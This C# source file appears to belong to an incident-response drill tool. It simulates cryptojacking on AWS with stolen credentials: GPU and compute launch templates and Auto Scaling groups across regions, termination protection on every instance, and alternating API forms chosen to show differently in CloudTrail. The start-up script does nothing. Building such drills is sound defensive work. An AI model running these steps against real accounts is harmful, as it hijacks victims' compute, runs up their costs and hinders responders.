using Amazon.AutoScaling.Model;
using Amazon.EC2;
using Amazon.EC2.Model;
using Amazon.IdentityManagement.Model;

namespace ResponseKit.Cli.Drill.Attack;

/// <summary>Auto Scaling groups of GPU and compute instances, and termination protection on every instance.</summary>
internal sealed class Ec2Mining : IAttackStep
{
    private static readonly string[] Types = ["g4dn.12xlarge", "c6a.48xlarge"];

    public async Task RunAsync(AttackContext context, CancellationToken cancellationToken)
    {
        await CreateServiceLinkedRoleAsync(context, cancellationToken);
        foreach (var region in context.Size.Regions)
            for (var kind = 0; kind < Types.Length; kind++)
                await CreateTemplateAsync(context.Stolen.Aws.Ec2(region), kind, cancellationToken);
        context.Timeline.Attacker($"created {Types.Length} launch templates with start-up scripts in each region");
        for (var index = 0; index < context.Size.Groups; index++)
            await CreateGroupAsync(context, index, cancellationToken);
        context.Timeline.Attacker($"created {context.Size.Groups} Auto Scaling groups, {context.Size.GroupMinimum} to {DrillSize.GroupMaximum} instances each");
        foreach (var region in context.Size.Regions)
            await LaunchAsync(context, region, cancellationToken);
        await ProtectAsync(context, cancellationToken);
    }

    private static async Task CreateServiceLinkedRoleAsync(AttackContext context, CancellationToken cancellationToken)
    {
        try
        {
            await context.Stolen.Aws.Iam(context.Size.Regions[0]).CreateServiceLinkedRoleAsync(
                new CreateServiceLinkedRoleRequest { AWSServiceName = "autoscaling.amazonaws.com" }, cancellationToken);
        }
        catch (InvalidInputException)
        {
            // The account has one already.
        }
    }

    private static Task CreateTemplateAsync(IAmazonEC2 ec2, int kind, CancellationToken cancellationToken) => ec2.CreateLaunchTemplateAsync(
        new CreateLaunchTemplateRequest
        {
            LaunchTemplateName = TemplateName(kind),
            LaunchTemplateData = new RequestLaunchTemplateData
            {
                ImageId = "ami-0abcdef1234567890",
                InstanceType = Types[kind],
                UserData = Convert.ToBase64String("#!/bin/sh\n# start-up script of the drill: does nothing\n"u8),
            },
        },
        cancellationToken);

    private static async Task CreateGroupAsync(AttackContext context, int index, CancellationToken cancellationToken)
    {
        var region = context.Size.RegionOf(index);
        var kind = index % Types.Length;
        var name = $"{(kind == 0 ? "SPOT" : "OD")}-{region}-G{index}-{context.RandomName(6)}";
        await context.Stolen.Aws.AutoScaling(region).CreateAutoScalingGroupAsync(
            new CreateAutoScalingGroupRequest
            {
                AutoScalingGroupName = name,
                LaunchTemplate = new Amazon.AutoScaling.Model.LaunchTemplateSpecification { LaunchTemplateName = TemplateName(kind) },
                MinSize = context.Size.GroupMinimum,
                MaxSize = DrillSize.GroupMaximum,
                AvailabilityZones = [region + "a", region + "b"],
                NewInstancesProtectedFromScaleIn = index % 3 == 0,
            },
            cancellationToken);
        context.Loot.Groups.Add((region, name));
    }

    private static async Task LaunchAsync(AttackContext context, string region, CancellationToken cancellationToken)
    {
        var launched = await context.Stolen.Aws.Ec2(region).RunInstancesAsync(
            new RunInstancesRequest
            {
                ImageId = "ami-0abcdef1234567890",
                InstanceType = Types[0],
                MinCount = 4,
                MaxCount = 4,
                DisableApiTermination = true,
            },
            cancellationToken);
        foreach (var instance in launched.Reservation.Instances)
            context.Loot.Instances.Add((region, instance.InstanceId));
    }

    private static async Task ProtectAsync(AttackContext context, CancellationToken cancellationToken)
    {
        foreach (var (region, group) in context.Loot.Groups)
        {
            var described = await context.Stolen.Aws.AutoScaling(region).DescribeAutoScalingGroupsAsync(
                new DescribeAutoScalingGroupsRequest { AutoScalingGroupNames = [group] }, cancellationToken);
            foreach (var instance in described.AutoScalingGroups.SelectMany(one => one.Instances ?? []))
                context.Loot.Instances.Add((region, instance.InstanceId));
        }

        await Parallel.ForEachAsync(
            context.Loot.Instances,
            new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = cancellationToken },
            async (instance, token) => await context.Stolen.Aws.Ec2(instance.Region).ModifyInstanceAttributeAsync(Protection(instance.InstanceId), token));
        context.Timeline.Attacker($"switched termination protection on for all {context.Loot.Instances.Count} instances");
    }

    // The two ways to say it differ in CloudTrail: one shows the value, the other hides it. The attack uses both.
    private static ModifyInstanceAttributeRequest Protection(string instanceId) => instanceId[^1] % 2 == 0
        ? new ModifyInstanceAttributeRequest { InstanceId = instanceId, DisableApiTermination = true }
        : new ModifyInstanceAttributeRequest { InstanceId = instanceId, Attribute = InstanceAttributeName.DisableApiTermination, Value = "true" };

    private static string TemplateName(int kind) => $"lt-{(kind == 0 ? "gpu" : "cpu")}";
}
